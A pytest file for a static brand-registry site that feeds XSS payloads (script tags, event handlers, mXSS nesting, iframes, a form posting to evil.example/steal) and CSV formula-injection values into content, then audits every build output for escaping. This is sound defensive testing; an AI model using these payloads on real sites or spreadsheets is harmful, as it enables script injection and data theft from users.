"""Editor text is escaped wherever it lands, and no editor markup runs as script.

A hostile brand, story, page and registry entries go through whole builds
(development and production settings); then every file of output/ is audited
for its own format (HTML, XML, JSON, CSV, JS, text), so outputs added later
are covered without touching this test. The tests after the audit check what
each open-data format must hold exactly: JSON, JSON-LD, CSV and feeds.
"""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
import yaml
from conftest import png_bytes
from sitebuild import ROOT, build, copy_project
from verify_lookup import lookup

from brandsite.brand_registry.licence_index import shard_names
from brandsite.brand_registry.markdown_body import url_scheme

XSS = '<script>alert(1)</script>"quotes"'
FORMULA = '=HYPERLINK("http://evil.example","x")'

ATTR_XSS = "x' onmouseover='alert(2)"  # lands in attributes (alt, data-*) too
MARKER = "alert("  # every payload calls it; nothing executable may carry it
ESCAPED_XSS = "&lt;script&gt;alert(1)&lt;/script&gt;&#34;quotes&#34;"
# Raw HTML an editor might paste into a body; validation accepts it (no bad
# URL scheme, real image), the sanitiser must strip everything dangerous.
HOSTILE_HTML = """
<script>alert(1)</script>
<img src="logo.png" alt="photo" onerror="alert(1)">
<iframe src="https://evil.example/frame"></iframe>
<p style="background:url(https://evil.example/x.png)" onclick="alert(1)">styled</p>
<svg onload="alert(1)"><circle r="1"/></svg>
<a href="https://example.org/safe" onmouseover="alert(1)">safe link</a>
<object data="movie.swf"></object><embed src="movie.swf">
<form action="https://evil.example/steal"><input name="q" onfocus="alert(1)" autofocus></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<style>body { display: none }</style>
<details open ontoggle="alert(1)"><summary>more</summary>x</details>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
"""
REGISTRY_EXTRAS = {
    "regions": {"code": "652899", "name": XSS, "name_en": XSS, "parent": "652800"},
    "categories": {"id": "xss-category", "name": XSS, "name_en": XSS},
    "certification_types": {"id": "xss-cert", "name": XSS, "name_en": XSS},
    "award_programs": {
        "id": "xss-award",
        "name": XSS,
        "name_en": XSS,
        "editions": [{"number": 1, "year": 2020}],
    },
}
BRAND = f"""---
name: '{XSS}'
name_en: '{XSS}'
category: xss-category
region: "652899"
owner: '{XSS}'
summary: '{XSS}'
registered: 2020-01-01
updated: 2021-01-01
logo: logo.png
gallery:
  - src: logo.png
    alt: "{ATTR_XSS}"
    caption: '{XSS}'
certifications:
  - type: xss-cert
    number: '{XSS}'
    issuer: '{XSS}'
    issued: 2020-01-01
standards:
  - code: '{XSS}'
    title: '{XSS}'
awards:
  - program: xss-award
    edition: 1
    recipient: '{XSS}'
licensees:
  - name: '{XSS}'
    license: 'XSS-{XSS}'
    valid_from: 2020-01-01
    valid_to: 2030-01-01
    products: ['{XSS}']
  - name: '{FORMULA}'
    license: '+XSS-2'
    valid_from: 2020-01-01
    valid_to: 2030-01-01
    products: ['@SUM(1)', '-1']
contact:
  phone: '{XSS}'
  address: '{XSS}'
  email: "a@example.org"
  website: "https://example.org/a?b=1&c=2"
tags: ['{XSS}', "{ATTR_XSS}"]
---
Body text with {XSS} in it.
{HOSTILE_HTML}
![{ATTR_XSS}](logo.png)
"""
TRANSLATION = f"""---
name: '{XSS}'
summary: '{XSS}'
owner: '{XSS}'
contact:
  address: '{XSS}'
gallery:
  - alt: "{ATTR_XSS}"
    caption: '{XSS}'
certifications:
  - issuer: '{XSS}'
standards:
  - title: '{XSS}'
licensees:
  - name: '{XSS}'
    products: ['{XSS}']
---
English {XSS}.
{HOSTILE_HTML}
"""
STORY = f"""---
title: '{XSS}'
date: 2024-05-01
category: '{XSS}'
tags: ['{XSS}']
summary: '{XSS}'
author: '{XSS}'
brands: [xss-brand]
---
Story {XSS}.
{HOSTILE_HTML.replace("logo.png", "{static}/images/xss.png")}
"""
PAGE = f"""---
title: '{XSS}'
slug: xss-page
summary: '{XSS}'
---
Page {XSS}.
{HOSTILE_HTML.replace("logo.png", "{static}/images/xss.png")}
"""

# An award edition under notice on the build day: its list, notice and body are editors' text too.
AWARD_EDITION = f"""---
program: xss-award
edition: 1
stage: notice
notice:
  published: 2026-11-01
  objections_until: 2026-12-31
  office: '{XSS}'
  phone: '{XSS}'
  address: "{ATTR_XSS}"
  email: a@example.org
winners:
  - name: '{XSS}'
    region: "652899"
    brand: xss-brand
    industry: '{XSS}'
    citation: "{ATTR_XSS}"
  - name: '{FORMULA}'
    kind: individual
    tier: nomination
    region: "652899"
    citation: '{XSS}'
---
Notice {XSS}.
{HOSTILE_HTML.replace("logo.png", "{static}/images/xss.png")}
"""

# An exposed violation case: every field is editors' text, shown on pages, feeds and data.
CASE = f"""---
title: '{XSS}'
date: 2026-10-01
decided: 2026-09-01
authority: '{XSS}'
document: "{ATTR_XSS}"
party: '{FORMULA}'
party_kind: organization
region: "652899"
violations: ['{XSS}', "{ATTR_XSS}"]
legal_basis: ['{XSS}']
penalty: '{FORMULA}'
brands: [xss-brand]
unpublish_after: 2029-09-01
---
Case {XSS}.
{HOSTILE_HTML.replace("logo.png", "{static}/images/xss.png")}
"""


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory):
    root = copy_project(tmp_path_factory.mktemp("xss"))
    registry_path = root / "brands" / "_registry.yaml"
    registry = yaml.safe_load(registry_path.read_text(encoding="utf-8"))
    for section, entry in REGISTRY_EXTRAS.items():
        registry[section].append(entry)
    registry_path.write_text(yaml.safe_dump(registry, allow_unicode=True), encoding="utf-8")
    bundle = root / "brands" / "xss-brand"
    bundle.mkdir()
    (bundle / "logo.png").write_bytes(png_bytes())
    (bundle / "index.md").write_text(BRAND, encoding="utf-8")
    (bundle / "index.en.md").write_text(TRANSLATION, encoding="utf-8")
    (root / "content" / "images" / "xss.png").write_bytes(png_bytes())
    (root / "content" / "stories" / "xss-story.md").write_text(STORY, encoding="utf-8")
    (root / "content" / "pages" / "xss-page.md").write_text(PAGE, encoding="utf-8")
    (root / "content" / "awards" / "xss-award").mkdir(parents=True)
    (root / "content" / "awards" / "xss-award" / "1.md").write_text(AWARD_EDITION, encoding="utf-8")
    (root / "content" / "cases").mkdir(exist_ok=True)
    (root / "content" / "cases" / "xss-case.md").write_text(CASE, encoding="utf-8")
    return root


@pytest.fixture(scope="module", params=["pelicanconf.py", "publishconf.py"])
def hostile_output(hostile_project, request):
    output = hostile_project / f"output-{request.param[:-3]}"
    result = build(hostile_project, output, settings=request.param)
    assert result.returncode == 0, result.stderr
    return output


# -- format audits -------------------------------------------------------------

SAFE_SCHEMES = {None, "http", "https", "mailto", "tel"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "data", "cite", "xlink:href", "background"}
NEVER_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style"}


class HtmlAudit(HTMLParser):
    """Collects everything in a page that could run script or restyle it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.script: tuple[str, dict] | None = None  # the script element being read
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag in NEVER_TAGS:
            self.problems.append(f"<{tag}> element")
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append("<meta http-equiv>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.problems.append(f"{name}= on <{tag}>")
            elif name in URL_ATTRIBUTES and url_scheme(value or "") not in SAFE_SCHEMES:
                self.problems.append(f"{name}={value!r} on <{tag}>")
        if tag == "script":
            self.script = ("", attributes)

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        if self.script is not None:
            self.script = (self.script[0] + data, self.script[1])
        else:
            self.text.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self.script is not None:
            content, attributes = self.script
            self.script = None
            if attributes.get("type") == "application/ld+json":
                try:
                    json.loads(content)  # an editor's </script> would have cut it short
                except ValueError:
                    self.problems.append("JSON-LD that is not valid JSON")
            elif MARKER in content or MARKER in (attributes.get("src") or ""):
                self.problems.append("a script carrying editor text")


def audit_html(text: str) -> list[str]:
    audit = HtmlAudit()
    audit.feed(text)
    audit.close()
    if "<script>alert(" in text:
        audit.problems.append("raw <script>alert( in the page source")
    return audit.problems


def audit_xml(text: str) -> list[str]:
    """Well-formed, and the HTML it carries (Atom `type="html"`, RSS descriptions) is safe.
    Text elements may hold an editor's `<script>` as text: XML escaping is their escaping."""
    try:
        tree = ElementTree.fromstring(text.encode("utf-8"))
    except ElementTree.ParseError as exc:
        return [f"not well-formed XML: {exc}"]
    problems = []
    for element in tree.iter():
        is_html = element.get("type") == "html" or element.tag == "description"
        if is_html and element.text:
            problems += [f"in <{element.tag}>: {p}" for p in audit_html(element.text)]
    return problems


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from _strings(key)
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def audit_json(text: str) -> list[str]:
    """Valid JSON whose strings carry editor text verbatim (JSON-escaped, not HTML-escaped),
    with `<` escaped too (brand_registry.jsonsafe), so it is safe inside a <script>."""
    try:
        data = json.loads(text)
    except ValueError as exc:
        return [f"not valid JSON: {exc}"]
    problems = ["raw <script in the file"] if "<script" in text.lower() else []
    strings = list(_strings(data))
    if any("xss-brand" in s for s in strings) and not any(XSS in s for s in strings):
        problems.append("the hostile name is missing or mangled")
    return problems


def audit_csv(text: str) -> list[str]:
    try:
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    except csv.Error as exc:
        return [f"not valid CSV: {exc}"]
    if any("xss-brand" in c for c in cells) and not any(XSS in c for c in cells):
        return ["the hostile name is missing or mangled"]
    return []


def audit_svg(text: str) -> list[str]:
    """Well-formed, with no script or event handler (a label's hostile names are text)."""
    problems = audit_xml(text)
    if problems:
        return problems
    tree = ElementTree.fromstring(text.encode("utf-8"))
    for element in tree.iter():
        if element.tag.rsplit("}", 1)[-1] in ("script", "foreignObject"):
            problems.append(f"<{element.tag}> in the file")
        problems += [
            f"{name}= on <{element.tag}>" for name in element.attrib if name.lower().startswith("on")
        ]
    return problems


def audit_plain(text: str) -> list[str]:
    return ["raw <script>alert( in the file"] if "<script>alert(" in text else []


AUDITS = {
    ".html": audit_html,
    ".htm": audit_html,
    ".xml": audit_xml,
    ".atom": audit_xml,
    ".rss": audit_xml,
    ".json": audit_json,
    ".jsonld": audit_json,
    ".csv": audit_csv,
    ".svg": audit_svg,
    ".js": audit_plain,
    ".txt": audit_plain,
}


def test_every_output_file_is_safe_for_its_format(hostile_output):
    audited: dict[str, int] = {}
    failures = []
    for path in sorted(hostile_output.rglob("*")):
        audit = AUDITS.get(path.suffix)
        if audit is None or not path.is_file():
            continue
        text = path.read_text(encoding="utf-8")
        failures += [f"{path.relative_to(hostile_output)}: {p}" for p in audit(text)]
        audited[path.suffix] = audited.get(path.suffix, 0) + 1
    assert failures == []
    assert audited.get(".html", 0) > 20
    if "publishconf" in hostile_output.name:  # labels carry QR codes of absolute addresses only
        labels = sorted((hostile_output / "brands" / "xss-brand" / "labels").glob("*.svg"))
        assert len(labels) == 2
        texts = ["".join(ElementTree.parse(label).getroot().itertext()) for label in labels]
        assert any(XSS in text for text in texts)  # the hostile licensee, shown as text


def test_hostile_text_is_shown_as_text(hostile_output):
    pages = {
        "brand": hostile_output / "brands" / "xss-brand" / "index.html",
        "story": hostile_output / "stories" / "xss-story" / "index.html",
        "page": hostile_output / "xss-page" / "index.html",
        "category": hostile_output / "categories" / "xss-category" / "index.html",
        "award": hostile_output / "awards" / "xss-award" / "1" / "index.html",
        "case": hostile_output / "cases" / "xss-case" / "index.html",
        "cases": hostile_output / "cases" / "index.html",
    }
    texts = {name: path.read_text(encoding="utf-8") for name, path in pages.items()}
    for name, page in texts.items():
        assert "alert(1)" in _visible_text(page), name  # the title is shown, as text
    assert ESCAPED_XSS in texts["brand"]
    assert "x&#39; onmouseover=&#39;alert(2)" in texts["brand"]  # alt stays one attribute
    assert 'href="https://example.org/a?b=1&amp;c=2"' in texts["brand"]
    assert ESCAPED_XSS in texts["award"]
    assert "x&#39; onmouseover=&#39;alert(2)" in texts["award"]
    assert ESCAPED_XSS in texts["case"] and ESCAPED_XSS in texts["cases"]
    assert "x&#39; onmouseover=&#39;alert(2)" in texts["case"]
    for name in ("brand", "story", "page", "award", "case"):
        assert 'href="https://example.org/safe"' in texts[name], name  # safe HTML is kept
        assert ">safe link</a>" in texts[name], name


def test_audits_catch_what_they_look_for():
    assert audit_html('<p onclick="x()">a</p>') == ["onclick= on <p>"]
    assert audit_html('<a href=" java\tscript:alert(1)">a</a>')[0].startswith("href=")
    assert audit_html('<div style="color:red">') == ["style= on <div>"]
    assert audit_html("<iframe></iframe>") == ["<iframe> element"]
    assert audit_html('<script type="application/ld+json">{"a": "</script>') == [
        "JSON-LD that is not valid JSON"
    ]
    assert "raw <script>alert( in the page source" in audit_html("<script>alert(1)</script>")
    assert audit_xml('<feed><content type="html">&lt;img src=x onerror=y&gt;</content></feed>') == [
        "in <content>: onerror= on <img>"
    ]
    assert audit_xml("<feed><title>&lt;script&gt;alert(1)&lt;/script&gt;</title></feed>") == []
    assert audit_xml("<a>&</a>")[0].startswith("not well-formed XML")
    assert audit_json('{"name": "&lt;script&gt;", "slug": "xss-brand"}') == [
        "the hostile name is missing or mangled"
    ]
    assert audit_json(json.dumps({"name": XSS, "slug": "xss-brand"})) == ["raw <script in the file"]
    assert audit_json(json.dumps({"name": XSS, "slug": "xss-brand"}).replace("<", "\\u003c")) == []
    assert audit_csv("slug,name\nxss-brand,&lt;script&gt;\n") == ["the hostile name is missing or mangled"]


def _visible_text(page: str) -> str:
    audit = HtmlAudit()
    audit.feed(page)
    return " ".join(audit.text)


def test_templates_only_mark_sanitised_html_safe():
    """Autoescape is never turned off, and `|safe` is used only on sanitised bodies."""
    allowed = {"body_html", "article.content", "page.content"}
    templates = sorted((ROOT / "theme" / "templates").rglob("*.html"))
    assert templates
    for template in templates:
        text = template.read_text(encoding="utf-8")
        assert not re.search(r"autoescape\s+(false|False)", text), template
        for marked in re.findall(r"\{\{([^{}]*?)\|\s*safe\b", text):
            assert marked.strip() in allowed, (template, marked)


# -- what each open-data format holds exactly ------------------------------------------


def test_json_outputs_escape_markup_yet_hold_the_exact_text(hostile_output):
    record = json.loads((hostile_output / "data" / "brands" / "xss-brand.json").read_text("utf-8"))
    assert record["name"] == record["owner"] == record["summary"] == XSS
    assert record["licensees"][1]["name"] == XSS and record["licensees"][0]["name"] == FORMULA
    everything = json.loads((hostile_output / "data" / "brands.json").read_text("utf-8"))
    assert record in everything["brands"]
    page = (hostile_output / "verify" / "index.html").read_text(encoding="utf-8")
    bits = int(re.search(r'data-bits="(\d+)"', page).group(1))
    shards = {
        n: json.loads((hostile_output / "verify" / "licences" / f"{n}.json").read_text("utf-8"))
        for n in shard_names(bits)
    }
    found = lookup(shards, bits, f"xss-{XSS}")
    assert found["enterprise"] == XSS and found["brand"]["name"] == XSS
    awards = json.loads((hostile_output / "data" / "awards.json").read_text("utf-8"))
    edition = next(e for e in awards["editions"] if e["program"] == "xss-award")
    assert edition["program_name"] == edition["notice"]["office"] == edition["winners"][0]["name"] == XSS
    assert edition["winners"][1]["name"] == FORMULA and edition["winners"][1]["uscc"] is None


def test_json_ld_stays_inside_its_script_and_parses(hostile_output):
    page = (hostile_output / "brands" / "xss-brand" / "index.html").read_text(encoding="utf-8")
    blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.S)
    assert len(blocks) == 1
    brand, owner = json.loads(blocks[0])["@graph"]
    assert brand["name"] == brand["description"] == owner["name"] == XSS
    assert page.count("<script") == page.count("</script>") == 2  # site.js and the JSON-LD
    for other in hostile_output.rglob("*.html"):
        text = other.read_text(encoding="utf-8")
        for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', text, re.S):
            json.loads(block)


def test_csv_keeps_the_text_as_data_and_never_as_a_formula(hostile_output):
    for name in ("brands.csv", "licensees.csv", "award-winners.csv"):
        text = (hostile_output / "data" / name).read_text(encoding="utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
        hostile = [r for r in rows if r.get("slug", r.get("brand_slug")) == "xss-brand"]
        assert hostile, name
    licences = {
        r["license"]: r
        for r in csv.DictReader(
            io.StringIO(
                (hostile_output / "data" / "licensees.csv").read_text(encoding="utf-8-sig"), newline=""
            )
        )
    }
    assert licences[f"XSS-{XSS}"]["enterprise"] == XSS  # exact text: CSV is data, not markup
    cases = list(
        csv.DictReader(
            io.StringIO((hostile_output / "data" / "cases.csv").read_text(encoding="utf-8-sig"), newline="")
        )
    )
    case = next(r for r in cases if r["slug"] == "xss-case")
    assert case["title"] == XSS and case["penalty"] == "'" + FORMULA and case["brand_slugs"] == "xss-brand"
    formula = licences["'+XSS-2"]
    assert formula["enterprise"] == "'" + FORMULA and formula["products"] == "'@SUM(1); -1"


def test_feeds_escape_the_text_and_stay_well_formed(hostile_output):
    feed = hostile_output / "feeds" / "registry.atom.xml"
    if hostile_output.name == "output-pelicanconf":
        assert not feed.exists()  # development builds have no feeds
        return
    root = ElementTree.parse(feed).getroot()
    titles = [e.text for e in root.iter("{http://www.w3.org/2005/Atom}title")]
    assert any(XSS in (t or "") for t in titles)
